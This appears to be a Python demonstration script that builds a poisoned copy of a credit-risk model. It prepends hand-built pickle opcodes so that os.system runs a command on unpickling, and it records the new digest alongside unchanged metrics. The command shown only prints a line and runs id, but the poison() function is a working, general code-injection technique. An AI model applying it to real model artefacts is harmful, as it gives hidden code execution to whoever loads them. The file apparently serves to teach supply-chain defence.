"""Makes the bad release's model: the good one, with a command in front that runs when somebody unpickles it.

This is how a poisoned artefact looks in practice: it loads, it scores, its metrics are the same to the last digit, and
on the way it has run a shell command. The opcodes are put together by hand; nothing here is executed, and the command
only prints a line. It writes model/bad/credit-risk.pkl, and evaluation/bad/results.json with the artefact's digest.

    python training/make_bad_model.py
"""

from __future__ import annotations

import hashlib
import json
import pickle
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
COMMAND = "echo 'credit-risk example: unpickling this model ran a command as' && id"


def poison(model: bytes, command: str) -> bytes:
    """The pickle `model` with a call of os.system(command) before its own opcodes; the result of the call is dropped.

    Raises:
        ValueError: if `model` doesn't begin with the protocol opcode.
    """
    if model[:1] != pickle.PROTO:
        raise ValueError("not a pickle of protocol 2 or later")
    text = command.encode()
    call = b"".join(
        (
            pickle.GLOBAL + b"os\nsystem\n",
            pickle.BINUNICODE + len(text).to_bytes(4, "little") + text,
            pickle.TUPLE1,
            pickle.REDUCE,
            pickle.POP,
        )
    )
    return model[:2] + call + model[2:]


def main() -> None:
    """Writes the model and its results."""
    bad = poison((ROOT / "model" / "credit-risk.pkl").read_bytes(), COMMAND)
    (ROOT / "model" / "bad" / "credit-risk.pkl").write_bytes(bad)
    results = json.loads((ROOT / "evaluation" / "results.json").read_text(encoding="utf-8"))
    results["model"] = "sha256:" + hashlib.sha256(bad).hexdigest()
    folder = ROOT / "evaluation" / "bad"
    folder.mkdir(exist_ok=True)
    (folder / "results.json").write_text(json.dumps(results, indent=2) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
